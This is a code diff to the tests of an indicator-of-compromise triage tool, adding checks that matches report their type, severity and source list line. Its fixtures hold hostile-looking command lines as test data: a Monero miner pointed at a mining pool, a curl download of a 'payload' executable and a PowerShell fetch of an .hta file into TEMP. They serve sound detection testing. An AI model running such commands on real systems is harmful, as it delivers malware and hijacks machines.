@@ -5,7 +5,7 @@
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { join } from 'node:path';
-import { Intel, iocFileWarning, loadIocFile, refang, type IocMatch } from '../lib/triage/intel.ts';
+import { Intel, iocFileWarning, iocFindingInfo, loadIocFile, refang, type IocMatch } from '../lib/triage/intel.ts';
 import { scoreLevel } from '../lib/triage/ioc-formats.ts';
 import { runTriage } from '../lib/triage/output.ts';
 import { cli, collectRecordedWindowsHost, FIXTURES, pwshOrFail, readJson, writeTree } from './helpers.ts';
@@ -132,6 +132,11 @@ test('filename IOCs match image paths and command lines: case-sensitive unless (
   assert.equal(detail({ entry: 'scvhost', imagePath: 'C:\\Users\\Public\\scvhost.exe' }), ['(?i)\\\\users\\\\public\\\\scvhost\\.exe@medium'], '(?i) on an autorun image path');
   assert.equal(m({ name: 'svchost.exe', path: 'C:\\Users\\jdoe\\AppData\\Roaming\\svchost.exe' }), ['filename:path']);
   assert.equal(m({ name: 'svchost.exe', path: 'C:\\Windows\\system32\\svchost.exe', commandLine: 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p' }), [], 'cleared by the false-positive regex');
+  // What the engine should say and weigh (see iocFindingInfo): the score's level, the entry's place and words.
+  const [ms] = intel.match({ name: 'mssecsvc.exe', path: 'C:\\WINDOWS\\mssecsvc.exe' });
+  assert.equal(iocFindingInfo(ms), { what: 'file name pattern', level: 'high', listed: '\\\\mssecsvc\\.exe in filename-iocs.txt line 7, score 100' });
+  const [low] = intel.match({ name: 'svchost.exe', path: 'C:\\Users\\jdoe\\AppData\\Roaming\\svchost.exe' });
+  assert.is(iocFindingInfo(low).level, 'low');
   assert.equal(
     m({ name: 'winupdate.exe', path: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\winupdate.exe', commandLine: 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\winupdate.exe -o stratum+tcp://pool.minexmr.com:4444 -u x' }),
     ['filename:commandLine'],
@@ -157,6 +162,8 @@ test('defanged indicators are refanged and then match', () => {
     'url:stratum+tcp://pool.minexmr.com:4444',
   ]);
   assert.equal(hits(intel.match({ protocol: 'tcp', remoteAddress: '104.243.33.118', remotePort: 443 })), ['ip:remoteAddress:104.243.33.118']);
+  const [url] = intel.match({ name: 'x', commandLine: 'curl -O http://dl.example-share.top/payload/winupdate.exe' });
+  assert.equal(iocFindingInfo(url), { what: 'URL', level: 'high', listed: 'http://dl.example-share.top/payload/winupdate.exe in defanged.txt line 2' });
   assert.equal(
     hits(intel.match({ name: 'powershell.exe', commandLine: 'powershell -c "iwr https://cdn.example-files.xyz/invoice.hta -OutFile $env:TEMP\\i.hta"' })),
     ['url:commandLine:https://cdn.example-files.xyz/invoice.hta'],
